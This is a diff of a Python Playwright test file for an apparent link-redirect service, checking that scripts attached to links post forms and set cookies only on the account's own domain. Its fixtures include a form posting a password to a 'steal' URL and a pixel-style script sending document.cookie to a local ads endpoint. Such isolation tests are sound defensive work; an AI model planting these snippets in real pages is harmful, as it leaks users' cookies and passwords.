@@ -17,15 +17,19 @@ django.setup()
 from accounts.custom_domains.services import host_provision
 from accounts.models import Account
 from links.belongings import domain_create, script_write
+from links.models import Domain
 from links.services import datapoint_create
-destination, script = json.loads(sys.argv[1])
+before, destination, script = json.loads(sys.argv[1])
 account = Account.objects.get()
-own = domain_create(account=account, name="own.localhost")
-host_provision(account=account, host="own.localhost", purpose="links")
+own = Domain.objects.filter(name="own.localhost").first()
+if own is None:
+    own = domain_create(account=account, name="own.localhost")
+    host_provision(account=account, host="own.localhost", purpose="links")
 snippet = script_write(account=account, name="s", text=script)
 for domain, name in ((None, "shared"), (own, "own")):
-    datapoint_create(account=account, domain=domain, alias=name + "-script", url=destination, scripts=[snippet])
-    datapoint_create(account=account, domain=domain, alias=name + "-frame", url=destination + "-form", hide_url=True)
+    common = {"account": account, "domain": domain}
+    datapoint_create(**common, alias=before + name + "-script", url=destination, scripts=[snippet])
+    datapoint_create(**common, alias=before + name + "-frame", url=destination + "-form", hide_url=True)
 """
 FORM = "<form method='post' action='{steal}'><input name='password' value='secret'></form>"
 SENT = "document.forms[0].submit()"
@@ -56,7 +60,7 @@ def stolen(product: Product, pages: Pages) -> list[str]:
 
     pages.upstream = noted
     product.provision("shop.localhost")
-    product.command("-c", MAKE, json.dumps([pages.url("/landing", "shop.localhost"), script]))
+    product.command("-c", MAKE, json.dumps(["", pages.url("/landing", "shop.localhost"), script]))
     return seen
 
 
@@ -81,3 +85,36 @@ def test_a_form_is_sent_from_ones_own_domain_and_from_no_other(
         page.goto(f"http://own.localhost:{product.port}/{alias}")
         page.wait_for_timeout(1500)
     assert stolen == ["POST", "POST"]
+
+
+PIXEL = """
+window.fbq = {{}};
+document.cookie = '_fbp=fb.1; path=/; max-age=7776000';
+localStorage.setItem('seen', 1); sessionStorage.setItem('seen', localStorage.getItem('seen'));
+new Image().src = '{tr}?c=' + encodeURIComponent(document.cookie) + '&s=' + sessionStorage.getItem('seen');
+"""
+
+
+def test_a_script_that_sets_a_cookie_reports_the_visit_on_every_link_domain(
+    page: Page, product: Product, pages: Pages
+) -> None:
+    pages.html["/landing"] = "<title>Landing</title>"
+    pages.html["/fbevents.js"] = PIXEL.format(tr=pages.url("/tr", "ads.localhost"))
+    reported: list[str] = []
+
+    def noted(method: str, path: str, query: str, headers: object) -> None:
+        if path == "/tr":
+            reported.append(query)
+
+    pages.upstream = noted
+    product.provision("shop.localhost")
+    load = "var s = document.createElement('script'); s.async = true; s.src = '{}'; document.head.appendChild(s)"
+    words = ["r-", pages.url("/landing", "shop.localhost"), load.format(pages.url("/fbevents.js", "ads.localhost"))]
+    product.command("-c", MAKE, json.dumps(words))
+    page.wait_for_timeout(2500)
+    for host, alias, kept in (("go", "r-shared-script", False), ("own", "r-own-script", True)):
+        page.goto(f"http://{host}.localhost:{product.port}/{alias}")
+        page.wait_for_url("**/landing*")
+        cookies = page.context.cookies(f"http://{host}.localhost:{product.port}/")
+        assert any(one.get("name") == "_fbp" for one in cookies) is kept
+    assert reported == ["c=_fbp%3Dfb.1&s=1"] * 2
